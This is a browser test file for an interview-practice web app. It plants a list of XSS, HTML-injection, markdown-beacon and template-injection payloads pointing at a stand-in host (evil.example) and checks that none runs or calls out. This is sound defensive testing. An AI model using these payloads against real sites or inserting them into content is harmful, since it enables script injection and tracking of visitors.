"""Text that would act if it were drawn as anything but text, in every place of every page, in a real Chromium."""

import re
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from pathlib import Path

import pytest
from browsing import SLOW_MS, Site, finish, send
from conducting import REPLY
from conftest import ScriptedModel, judging
from fault_server import Messages, failure
from past_interviews import QUESTION, grade, held_round, keep, probe, said
from playwright.sync_api import Browser, Dialog, Page, Request, expect
from telling import ANSWER, OTHER

from simulator.interview import Interview, open_interview
from simulator.records import Guide, Records, new_id
from simulator.stories.story import PARTS, Measure, Story, fields_of

pytestmark = pytest.mark.browser
OUTSIDE = "evil.example"
PAYLOADS = [
    "<script>window.planted=1</script>",
    "<script src=//evil.example/a.js></script>",
    "<img src=http://evil.example/a.png>",
    "<img src=x onerror=\"window.planted=1;alert('planted')\">",
    "<img srcset='http://evil.example/b.png 2x'>",
    "<svg onload=alert('planted')><image href=http://evil.example/c.png /></svg>",
    "<svg><use href='http://evil.example/d.svg#x'/></svg>",
    "<iframe src=http://evil.example/e></iframe>",
    "<iframe srcdoc='<script>parent.planted=1</script>'></iframe>",
    "<object data=http://evil.example/f></object>",
    "<embed src=http://evil.example/g.swf>",
    "<video src=http://evil.example/h.mp4 autoplay></video>",
    "<video poster=http://evil.example/i.png></video>",
    "<audio src=http://evil.example/j.mp3 autoplay></audio>",
    "<link rel=stylesheet href=http://evil.example/k.css>",
    "<link rel=prefetch href=http://evil.example/l>",
    "<style>@import 'http://evil.example/m.css'; body{display:none}</style>",
    "<div style=\"background:url('http://evil.example/n.png');position:fixed;inset:0\">planted</div>",
    "<body background=http://evil.example/o.png onload=alert('planted')>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/p'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/q><input autofocus onfocus=alert('planted')></form>",
    "<details open ontoggle=alert('planted')><summary>planted</summary></details>",
    "<math><mtext><img src=http://evil.example/r.png></mtext></math>",
    "<a href=\"javascript:alert('planted')\">planted</a>",
    "<input type=image src=http://evil.example/s.png>",
    "</div></div></textarea></script><img src=http://evil.example/t.png>",
    '"><img src=http://evil.example/u.png><i title="',
    "&lt;img src=http://evil.example/v.png&gt;",
    "![planted](http://evil.example/w.png)",
    "![planted](http://evil.example/x.mp4)",
    "![planted][mark]\n\n[mark]: http://evil.example/y.png",
    "[planted](javascript:alert('planted'))",
    "[planted](data:text/html,<script>alert('planted')</script>)",
    "[planted](http://evil.example/z)",
    "<http://evil.example/autolink>",
    "http://evil.example/bare www.evil.example/bare planted@evil.example",
    "$\\href{javascript:alert('planted')}{planted}$ $$\\includegraphics{http://evil.example/tex.png}$$",
    ":red[planted] :red-background[planted] :material/warning: :streamlit: :smile:",
    "`planted` ~~planted~~ **planted** _planted_",
    "# planted\n> planted\n\n---\n| planted | b |\n|---|---|",
    "```html\n<img src=http://evil.example/fence.png>\n```",
    "{{ 7*7 }} {% raw %} ${7*7} {0.__class__} %(planted)s",
    "planted\u2028planted\u202eplanted",
]
ALL = "\n\n".join([f"{ANSWER} {REPLY} {OTHER}", *PAYLOADS])
"""With enough plain words around them to pass for an answer."""
LINE = " ".join(ALL.split())
ACTING = """() => {
    const found = [];
    const plain = one => /^(https?|mailto):$/.test(one.protocol)
        && decodeURI(one.href).includes(one.textContent.trim());
    const tags = 'script,style,iframe,object,embed,video,audio,link,meta,base,form,svg,math,img,input[type=image],a';
    for (const one of document.querySelectorAll(tags))
        if (/evil[.]example|planted/.test(one.outerHTML) && !plain(one)) found.push(one.outerHTML.slice(0, 200));
    for (const one of document.querySelectorAll('*'))
        for (const {name, value} of one.attributes)
            if (/^on|^(src|srcset|href|action|data|poster|style|background|formaction)$/.test(name)
                && /evil[.]example|planted/.test(value) && !plain(one)) found.push(`${one.tagName} ${name}=${value}`);
    for (const one of document.querySelectorAll('.katex, [data-testid=stMarkdownContainer] [class*=material]'))
        if (/planted|warning/.test(one.textContent)) found.push(one.outerHTML.slice(0, 200));
    if (window.planted) found.push('a script ran');
    return found;
}"""
"""What acts in the page. An address that is a link to itself, which nobody but the reader follows, does not."""


class Watch:
    """All that a visitor's browser asked for, and what popped up."""

    def __init__(self, page: Page, site: Site) -> None:
        self.page, self.site = page, site
        self.requests: list[Request] = []
        self.dialogs: list[str] = []
        page.on("request", lambda request: self.requests.append(request))
        page.on("dialog", self.dismiss)
        page.context.route(lambda url: not url.startswith((site.address, "data:", "blob:")), lambda one: one.abort())

    def dismiss(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def outside(self) -> list[str]:
        here = (self.site.address, self.site.address.replace("http", "ws"), "data:", "blob:")
        return [one.url for one in self.requests if not one.url.startswith(here)]

    def at_rest(self) -> None:
        app = self.page.get_by_test_id("stApp")
        expect(app).to_have_attribute("data-test-script-state", "notRunning", timeout=SLOW_MS)

    def settled(self) -> None:
        """Open all that is folded, wait until the page stands still, and see that nothing acted."""
        self.at_rest()
        self.page.evaluate("document.querySelectorAll('details:not([open]) > summary').forEach(one => one.click())")
        expect(self.page.locator("details:not([open])")).to_have_count(0, timeout=SLOW_MS)
        self.at_rest()
        self.page.wait_for_load_state("networkidle")
        assert self.page.get_by_test_id("stException").count() == 0
        assert self.page.evaluate(ACTING) == []
        assert self.dialogs == []
        assert self.outside() == []


@pytest.fixture
def watch(browser: Browser, site: Site) -> Iterator[Watch]:
    context = browser.new_context(viewport={"width": 1100, "height": 900})
    page = context.new_page()
    page.set_default_timeout(SLOW_MS)
    yield Watch(page, site)
    context.close()


def hostile_round(**changed: str) -> Interview:
    """A round in which everybody says all payloads, the question too, as an import may hold it."""
    question = replace(QUESTION, text=ALL)
    follow_up = replace(probe("action.risk"), text=ALL, replaced=ALL, passages=("guide/g1/0",))
    return replace(held_round([said(ALL), follow_up, said(ALL)], question=question), **changed)  # type: ignore[arg-type]


@pytest.fixture
def planted(data_dir: Path) -> dict[str, str]:
    """Payloads in everything that is kept; the ids of an interview in each state, and of a story."""
    ids = {"open": new_id(), "story": new_id()}
    with closing(Records(data_dir / "interviews.db")) as records:
        going = open_interview(ids["open"], "stripe", "quick", [replace(QUESTION, text=ALL)])
        records.interviews.add(going)
        records.interviews.save(going, going.answer("t1", ALL).reply(replace(probe("action.risk"), text=ALL)))
        records.interviews.keep_draft(ids["open"], ALL)
        good = replace(grade(3, {"action.risk": 2, "result.quantified": 0}), provenance=dict.fromkeys(MADE_BY, ALL))
        for name, graded in {"graded": good, "unscored": replace(good, ratings={}, reason=ALL)}.items():
            keep(records, closed := hostile_round(), graded)
            ids[name] = closed.id
            records.opinions.rate(closed.id, dict.fromkeys(good.ratings, 2.5))
            records.opinions.contest(closed.id, 0, "action.risk", False, ALL)
        again = hostile_round(retry_of=ids["graded"])
        keep(records, again, good)
        ids["again"] = again.id
        records.opinions.rate(again.id, dict.fromkeys(good.ratings, 2.5))
        ids["failed"] = _failed(records)
        records.guides.add(Guide("g1", ALL, "general", tuple(PAYLOADS), "2026-01-01T00:00:00+00:00"))
        told = dict(zip(PARTS, PAYLOADS[-len(PARTS) :], strict=True)) | {"action": ALL}
        for name in (ids["story"], new_id()):
            story = Story(
                measures=(Measure(ALL, "1", "2", ALL),), kinds=("recovery",), lessons=(ALL,), artefacts=(ALL,)
            )
            story = replace(story, notes=ALL, told=(f"{ids['graded']}/0",))
            records.stories.save(name, LINE, fields_of(story) | told)
    return ids


MADE_BY = ("model", "method", "rubric", "prompts", "rule")


def _failed(records: Records) -> str:
    keep(records, closed := hostile_round(), None)
    opened = records.interviews.find(closed.id)
    records.interviews.save(opened, opened, grade=[0])
    job = records.jobs.take("w")
    assert job
    records.jobs.fail(job, "w", ALL, final=True)
    return closed.id


def missing(page: Page) -> list[str]:
    """The payloads that stand nowhere on the page as they were written."""
    flat = " ".join((page.get_by_test_id("stMain").text_content() or "").split())
    return [one for one in PAYLOADS if " ".join(one.split()) not in flat]


def test_no_text_that_is_kept_acts_or_reaches_out_on_a_page_of_interviews(
    watch: Watch, planted: dict[str, str]
) -> None:
    page = watch.page
    for name, address, place in (
        ("open", "interview", ".said >> nth=2"),
        ("graded", "interview", ".said >> nth=3"),
        ("graded", "scorecard", ".said >> nth=1"),
        ("again", "scorecard", ".said >> nth=1"),
        ("unscored", "scorecard", ".said >> nth=1"),
        ("failed", "scorecard", "[data-testid=stAlert]"),
    ):
        page.goto(f"{watch.site.address}/{address}?id={planted[name]}")
        page.locator(place).wait_for()
        watch.settled()
        assert missing(page) == [] or name == "failed"  # there it stands in an alert, which draws emoji codes


def test_no_text_that_is_kept_acts_or_reaches_out_on_any_other_page(watch: Watch, planted: dict[str, str]) -> None:
    page, address = watch.page, watch.site.address
    for where in ("", "progress"):
        page.goto(f"{address}/{where}")
        page.locator("h1").wait_for()
        watch.settled()
    page.goto(f"{address}/stories?story={planted['story']}")
    expect(page.get_by_role("textbox", name="Title")).to_have_value(LINE, timeout=SLOW_MS)
    watch.settled()
    page.goto(f"{address}/stories")
    sections = page.get_by_test_id("stMain").get_by_role("radio")
    expect(sections).to_have_count(4, timeout=SLOW_MS)
    for section in sections.all():
        section.click()
        watch.settled()
    page.goto(f"{address}/guide")
    page.get_by_role("radio", name="Craft").click()
    page.locator("summary", has_text="planted").first.wait_for()
    watch.settled()
    assert missing(page) == []
    page.goto(f"{address}/drill")
    page.get_by_role("button", name="Start").click()
    page.locator(".question").wait_for()
    watch.settled()


def test_what_a_model_says_neither_acts_nor_reaches_out_as_it_comes_in(
    watch: Watch, scripted_model: ScriptedModel
) -> None:
    judge, hostile = judging(), " <img src=//evil.example>"

    def reply(messages: Messages, parameters: dict[str, object]) -> str | float:
        said_ = judge(messages, parameters)
        return f"{said_[:-1]}{hostile}?" if isinstance(said_, str) else said_

    scripted_model.reply = reply
    page = watch.page
    page.goto(watch.site.address)
    page.get_by_role("button", name="Start the interview").click()
    send(page, f"{hostile} {ANSWER} {hostile}")
    page.get_by_text("Follow-up 1").wait_for()
    assert (page.locator(".said").last.text_content() or "").endswith(f"{hostile}?")
    watch.settled()


def test_what_a_server_says_of_its_error_neither_acts_nor_reaches_out(
    watch: Watch, scripted_model: ScriptedModel
) -> None:
    hostile = "![x](http://evil.example/a.png) <img src=//evil.example/b.png> $\\href{javascript:planted}{x}$"
    scripted_model.fault = lambda request: failure(400, hostile)
    watch.page.goto(watch.site.address)
    told = watch.page.get_by_test_id("stSidebar").get_by_test_id("stAlert")
    told.wait_for()
    assert "![x](http://evil.example/a.png) <img src=//evil.example/b.png>" in (told.text_content() or "")
    watch.settled()


def test_what_is_typed_stands_in_no_address_and_in_no_log_of_the_page_server(
    watch: Watch, site: Site, capfd: pytest.CaptureFixture[str]
) -> None:
    site.kill()
    site.start(STREAMLIT_LOGGER_LEVEL="debug")
    page, addresses = watch.page, []
    page.on("framenavigated", lambda frame: addresses.append(frame.url))
    page.on("websocket", lambda wire: addresses.append(wire.url))
    page.goto(site.address)
    page.get_by_role("button", name="Start the interview").click()
    page.get_by_label("Your answer").fill("Unsent words of the Tartu ledger")
    page.get_by_label("Your answer").blur()
    page.get_by_text("6 words").wait_for()
    send(page, f"{ANSWER} The ledger was kept in Tartu.")
    page.get_by_text("Follow-up 1").wait_for()
    addresses.append(page.url)
    finish(page)
    page.get_by_text("Five dimensions").wait_for()
    addresses.append(page.url)
    page.goto(f"{site.address}/stories")
    page.get_by_role("button", name="Write a story").click()
    page.get_by_role("textbox", name="Title").fill("The Tartu ledger")
    page.get_by_role("textbox", name="Title").press("Enter")
    watch.at_rest()
    addresses.append(page.url)
    page.goto(f"{site.address}/guide")
    page.get_by_role("radio", name="Craft").click()
    page.get_by_label("Search").fill("Tartu ledger")
    page.get_by_label("Search").press("Enter")
    page.locator("article").first.wait_for()
    addresses += [page.url, *(f"{one.url} {one.headers.get('referer', '')}" for one in watch.requests)]
    assert len(addresses) > 50
    assert [one for one in addresses if re.search("tartu|ledger|checkout|payments", one, re.IGNORECASE)] == []
    watch.settled()
    out, err = capfd.readouterr()
    assert "server:app" in err  # its log was read
    assert not re.search("Tartu|fraud vendor", out + err)
